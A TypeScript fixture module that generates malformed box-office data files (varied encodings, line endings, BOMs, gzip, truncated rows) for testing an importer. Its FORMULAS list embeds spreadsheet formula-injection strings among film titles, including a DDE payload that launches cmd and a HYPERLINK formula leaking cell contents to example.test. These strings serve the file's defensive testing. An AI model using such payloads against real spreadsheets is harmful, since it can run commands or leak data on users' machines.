import type { Family, Tongue } from './mangle-families.ts'
import { dailyFamily, mappedFamily, tillFamily } from './mangle-families.ts'
import type { FilePlan } from './mangle-write.ts'

/** Files of one source, in the order in which they come. */
export type SourcePlan = {
  readonly family: Family
  readonly files: readonly Omit<FilePlan, 'rows'>[]
}

/** Titles that a spreadsheet would run, and a table must keep as they are. */
const FORMULAS = [
  '=HYPERLINK("http://example.test/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3+cmd',
]
// Never all of a file: one that has no letter beyond ASCII says nothing of its encoding, and a byte of
// another that strikes it may be its own.
const ENGLISH = [
  'The Salt Road',
  'Marrow, Part 2',
  'A "Quiet" Harbour',
  'Seven Lamps; Reprise',
  ...FORMULAS,
]
const WESTERN = ['Café Lumière', 'Ängste im Schnee', 'El niño perdido', 'Été brûlant', ...FORMULAS]
const CHINESE = ['流浪地球 第二部', '十万灯火', '我不是药神', '一出好戏 重映', ...FORMULAS]
const THAI = ['แม่นาคพระโขนง ภาคสอง', 'บางกอกแดนเจอร์รัส', 'พี่มากพระโขนง', 'สุริโยไท', ...FORMULAS]
const ALL = [...ENGLISH, ...WESTERN, ...CHINESE, ...THAI, 'Эхо 🎬 город', '기생충 재개봉']

const CHINA: Tongue = {
  header: ['日期', '影片', '票房(万元)', '人次', '场次'],
  territory: 'CN',
  currency: 'CNY',
  unit: 'ten_thousand',
  separator: ',',
}
const THAILAND: Tongue = {
  header: ['วันที่', 'ภาพยนตร์', 'รายได้', 'ผู้ชม', 'รอบ'],
  territory: 'TH',
  currency: 'THB',
  unit: 'one',
  separator: '\t',
}
const FRANCE: Tongue = {
  header: ['Jour', 'Film', 'Recette', 'Entrées', 'Séances'],
  territory: 'FR',
  currency: 'EUR',
  unit: 'one',
  separator: ';',
}

type Rest = Partial<Omit<FilePlan, 'rows' | 'name'>>

/** A file; what is not said of it is as it should be. */
const file = (name: string, rest: Rest = {}): Omit<FilePlan, 'rows'> => ({
  name,
  encoding: 'utf-8',
  bom: false,
  ends: 'lf',
  packing: 'plain',
  tail: 'none',
  longLines: 0,
  ...rest,
})

/** Every way in which a file can be written, by turns over the kinds of files. */
export function sourcePlans(): readonly SourcePlan[] {
  let place = 0
  const till = (titles: readonly string[], ...files: readonly Omit<FilePlan, 'rows'>[]) => ({
    family: tillFamily(++place, titles),
    files,
  })
  const mapped = (titles: readonly string[], tongue: Tongue, ...files: SourcePlan['files']) => ({
    family: mappedFamily(++place, titles, tongue),
    files,
  })
  return [
    till(
      ALL,
      file('till-bom.csv', { bom: true, ends: 'crlf', longLines: 1 }),
      file('till-next.csv'),
    ),
    till(ALL, file('till-mixed.csv', { ends: 'mixed', tail: 'half a row' })),
    till(ALL, file('till-cr.csv', { ends: 'cr' })),
    till(
      ALL,
      file('till-16le.csv', { encoding: 'utf-16le', bom: true, ends: 'crlf', longLines: 1 }),
    ),
    till(CHINESE, file('till-16be.csv', { encoding: 'utf-16be', bom: true })),
    till(CHINESE, file('till-gb.csv', { encoding: 'gb18030', ends: 'crlf', longLines: 1 })),
    till(THAI, file('till-thai.csv', { encoding: 'tis-620', tail: 'half a row' })),
    till(WESTERN, file('till-west.csv', { encoding: 'windows-1252', ends: 'crlf' })),
    till(ALL, file('till-packed.csv.gz', { packing: 'gzip', longLines: 2, tail: 'garbage' })),
    till(ALL, file('till-cut.csv.gz', { packing: 'gzip cut off' })),
    till(ALL, file('till-garbage.csv', { tail: 'garbage' })),
    {
      family: dailyFamily(++place, ALL),
      files: [
        file('daily.csv', { longLines: 1 }),
        file('daily-next.csv', { ends: 'mixed' }),
        file('daily-16le.csv', { encoding: 'utf-16le', bom: true }),
        file('daily-packed.csv.gz', { packing: 'gzip', tail: 'half a row' }),
        file('daily-cut.csv.gz', { packing: 'gzip cut off' }),
      ],
    },
    mapped(
      CHINESE,
      CHINA,
      file('china-gb.csv', { encoding: 'gb18030', ends: 'crlf', longLines: 1 }),
      file('china-next.csv', { encoding: 'gb18030', tail: 'half a row' }),
    ),
    mapped(
      CHINESE,
      CHINA,
      file('china-bom.csv', { bom: true }),
      file('china-16.csv', { encoding: 'utf-16le', bom: true }),
    ),
    mapped(
      THAI,
      THAILAND,
      file('thai.tsv', { encoding: 'tis-620', ends: 'crlf' }),
      file('thai-cr.tsv', { ends: 'cr' }),
    ),
    mapped(WESTERN, FRANCE, file('france.csv', { encoding: 'windows-1252', longLines: 1 })),
    mapped(WESTERN, FRANCE, file('france-cut.csv.gz', { packing: 'gzip cut off' })),
  ]
}

/** A till's file by itself, as large as is wished: for what an importer holds in memory. */
export function memoryPlan(longLines: number): SourcePlan {
  return { family: tillFamily(0, ALL), files: [file('till.csv', { longLines })] }
}
